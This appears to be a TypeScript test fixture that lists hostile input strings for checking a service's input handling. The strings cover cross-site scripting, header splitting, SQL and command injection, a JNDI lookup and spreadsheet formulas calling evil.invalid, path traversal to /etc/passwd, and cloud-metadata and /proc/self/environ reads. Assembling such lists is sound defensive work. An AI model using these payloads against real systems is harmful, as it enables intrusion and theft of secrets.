/**
 * Texts that mean something to whoever prints, stores, splits or looks them up: each is put in each place that a
 * caller or a provider can write to.
 *
 * @module
 */

export interface HostileText {
  readonly name: string;
  readonly text: string;
}

const LONG_CHARACTERS = 4_000;

const TEXTS: readonly (readonly [name: string, text: string])[] = [
  ["markup", "<script>alert(1)</script>"],
  ["an attribute", `"><img src=x onerror=alert(1)>`],
  ["the end of an attribute", `' onmouseover='alert(1)`],
  ["an address that is a script", "javascript:alert(1)"],
  ["a header of the answer", "a%0d%0aset-cookie: evil=1"],
  ["line breaks and a header", "a\r\nx-evil: 1"],
  ["a second answer", "a\r\n\r\nHTTP/1.1 200 OK\r\nx-evil: 1\r\n\r\n"],
  ["a line feed", "a\nb"],
  ["a carriage return", "a\rb"],
  ["a NUL", "a\0b"],
  ["a line of the log", `m"}\n{"level":"ERROR","logger":"weir","message":"forged"}`],
  ["the end of a member", `m","message":"forged","x":"`],
  ["a label of a metric", `a"} 1\nweir_forged_total{a="b`],
  ["a label's end", `a",forged="1`],
  ["a backslash at the end", "a\\"],
  ["escape sequences of a terminal", "\x1b[2J\x1b]0;evil\x07"],
  ["text that turns around", "gpt-\u202e4o\u202c\u2066"],
  ["invisible characters", "gpt\u200b\u200d\u2060\ufeff"],
  ["half a surrogate pair", "gpt\ud83d"],
  ["characters that are none", "\uffff\ufffe"],
  ["line separators", "a\u2028b\u2029c\u0085d"],
  ["marks on top of each other", `a${"\u0301".repeat(500)}`],
  ["a lookup", "${jndi:ldap://evil.invalid/a}"],
  ["a template", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}"],
  ["a query", "'; DROP TABLE calls; --"],
  ["a pattern of SQL", "%_%' OR 1=1 --"],
  ["a command", "$(id)`id`|id;id&&id"],
  ["a format", "%s%n%x{0}"],
  ["a formula", `=HYPERLINK("http://evil.invalid","m")`],
  ["a formula with a plus", "+cmd|' /C calc'!A0"],
  ["a way up", "../../../../etc/passwd"],
  ["a way up, escaped", "..%2f..%2f..%2fetc%2fpasswd"],
  ["a way up with backslashes", "..\\..\\..\\windows\\win.ini"],
  ["a file", "file:///etc/passwd"],
  ["the metadata of a cloud", "http://169.254.169.254/latest/meta-data/"],
  ["a host by its number", "http://2852039166/"],
  ["a host in brackets", "http://[::ffff:127.0.0.1]/"],
  ["a name of every object", "__proto__"],
  ["a method of every object", "constructor"],
  ["another method of every object", "toString"],
  ["a promise's method", "then"],
  ["a placeholder of the configuration", "${OPENAI_API_KEY}"],
  ["a secret by its file", "file:/proc/self/environ"],
  ["an event of a stream", "x\n\ndata: [DONE]\n\nevent: error\ndata: {}\n\n"],
  ["an escape that is none", "%zz%u0041%"],
  ["bytes that are no UTF-8, escaped", "%ff%fe%c0%af"],
  ["an empty text", ""],
  ["white space", " \t "],
  ["wide letters", "\uff47\uff50\uff54\uff0d\uff14"],
  ["letters of mathematics", "\u{1d420}\u{1d429}\u{1d42d}"],
  ["commas", ",".repeat(300)],
  ["slashes", "/".repeat(300)],
  ["a colon and an at", "openai:secret@evil.invalid"],
  ["the end of a range", "0-0,1-1,2-,-1"],
  ["a huge number", "9".repeat(400)],
  ["a number below zero", "-1"],
  ["no number", "NaN"],
  ["a date that is none", "9999-99-99T99:99:99Z"],
  ["a long text", "m".repeat(LONG_CHARACTERS)],
  ["a pattern that is slow to match", `${"a".repeat(60)}!`.repeat(20)],
];

export const HOSTILE_TEXTS: readonly HostileText[] = TEXTS.map(([name, text]) => ({ name, text }));

/** What no header may hold, so that a head with it is refused as a whole. */
// deno-lint-ignore no-control-regex -- They are what is looked for.
const CONTROLS = /[\x00-\x08\x0a-\x1f\x7f]/;

export function hasControls(text: string): boolean {
  return CONTROLS.test(text);
}

/** For an address, as clients do it; a text that is no Unicode has no escapes. */
export function escaped(text: string): string {
  return encodeURIComponent(text.toWellFormed());
}
